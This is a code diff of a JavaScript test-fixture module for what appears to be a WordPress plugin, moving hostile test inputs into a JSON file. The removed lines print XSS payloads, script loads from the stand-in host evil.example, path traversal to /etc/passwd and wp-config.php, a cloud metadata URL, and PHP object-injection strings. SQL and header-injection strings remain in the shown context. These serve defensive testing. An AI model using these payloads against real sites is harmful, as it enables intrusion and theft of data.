@@ -1,83 +1,17 @@
+import { readFileSync } from 'node:fs';
+
 /**
  * Texts that broke other forms: markup, SQL, spreadsheets' formulas, mail headers, paths, serialised
  * objects, templates, addresses, and what Unicode allows.
  */
 
-const HANDLERS = [
-	'onerror',
-	'onload',
-	'onfocus',
-	'ontoggle',
-	'onpointerover',
-];
-const ELEMENTS = [
-	'<img src=x §>',
-	'<svg §>',
-	'<input autofocus §>',
-	'<details open §>',
-	'<video><source §></video>',
-	'<body §>',
-	'<iframe §></iframe>',
-	'<math><mtext><img src=x §>',
-	'"><a href=# §>x</a>',
-	"'><p §>",
-];
-
-/** Markup that would run, were it printed raw: more than a hundred. */
-export const markup = [
-	...ELEMENTS.flatMap( ( element ) =>
-		HANDLERS.map( ( handler ) =>
-			element.replace( '§', `${ handler }=alert(1)` )
-		)
-	),
-	...ELEMENTS.map( ( element ) =>
-		element.replace( '§', 'ONERROR&#61;alert(1)' )
-	),
-	...ELEMENTS.map( ( element ) =>
-		element.replace( '§', 'on\nerror=alert`1`' )
-	),
-	...[
-		'javascript',
-		'JaVaScRiPt',
-		'java\tscript',
-		'data',
-		'vbscript',
-	].flatMap( ( scheme ) => [
-		`<a href="${ scheme }:alert(1)">x</a>`,
-		`<iframe src="${ scheme }:text/html,<script>alert(1)</script>"></iframe>`,
-		`<form action="${ scheme }:alert(1)"><button>`,
-		`<object data="${ scheme }:alert(1)">`,
-	] ),
-	'<script>alert(1)</script>',
-	'<script src=//evil.example></script>',
-	'<scr<script>ipt>alert(1)</scr</script>ipt>',
-	'</textarea><script>alert(1)</script>',
-	'</title><script>alert(1)</script>',
-	'</style><script>alert(1)</script>',
-	'--><script>alert(1)</script>',
-	']]><script>alert(1)</script>',
-	'<!--<img src="--><img src=x onerror=alert(1)//">',
-	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-	'<template><img src=x onerror=alert(1)></template>',
-	'<style>@import "//evil.example/x.css";</style>',
-	'<link rel=stylesheet href=//evil.example/x.css>',
-	'<meta http-equiv=refresh content="0;url=//evil.example">',
-	'<base href=//evil.example/>',
-	'<embed src=//evil.example/x.swf>',
-	'<img src=//evil.example/pixel.gif>',
-	'&lt;script&gt;alert(1)&lt;/script&gt;',
-	'&#60;script&#62;alert(1)&#60;/script&#62;',
-	'\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
-	'%3Cscript%3Ealert(1)%3C/script%3E',
-	'＜script＞alert(1)＜/script＞',
-	'{{constructor.constructor("alert(1)")()}}',
-	'${alert(1)}',
-	'`-alert(1)-`',
-	"';alert(1)//",
-	'";alert(1)//',
-	'\\";alert(1)//',
-	'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
-];
+/** What PHP's tests use too. `markup`: what would run, were it printed raw. */
+export const { markup, paths, serialised, templates } = JSON.parse(
+	readFileSync(
+		new URL( '../../vectors/hostile-texts.json', import.meta.url ),
+		'utf8'
+	)
+);
 
 const sql = [
 	"' OR 1=1 -- ",
@@ -109,39 +43,6 @@ const headers = [
 	'"a, b" <a@example.org>',
 	'x\r\n\r\n<html>',
 	'a@example.org\0@example.net',
-];
-export const paths = [
-	'../../../../etc/passwd',
-	'/etc/passwd',
-	'..\\..\\wp-config.php',
-	'phar:///tmp/x.phar',
-	'php://filter/convert.base64-encode/resource=wp-config.php',
-	'file:///etc/passwd',
-	'http://169.254.169.254/latest/meta-data/',
-	'wp-content/uploads/x.php',
-	'C:\\Windows\\win.ini',
-];
-export const serialised = [
-	'O:6:"Canary":0:{}',
-	'a:1:{i:0;O:6:"Canary":0:{}}',
-	'C:6:"Canary":0:{}',
-	's:6:"canary";',
-	'a:2000000000:{}',
-	'Tzo2OiJDYW5hcnkiOjA6e30=',
-	'phar://x/Canary',
-];
-export const templates = [
-	'[doorstep_canary]',
-	'[gallery ids="1,2"]',
-	'[caption]<b>x[/caption]',
-	'<!-- wp:doorstep/contact-form /-->',
-	'<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->',
-	'<!-- wp:core/latest-posts /-->',
-	'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
-	'{{7*7}}',
-	'<?php echo 1; ?>',
-	'%admin_email%',
-	'{name}',
 ];
 const addresses = [
 	'inès@exämple.org',
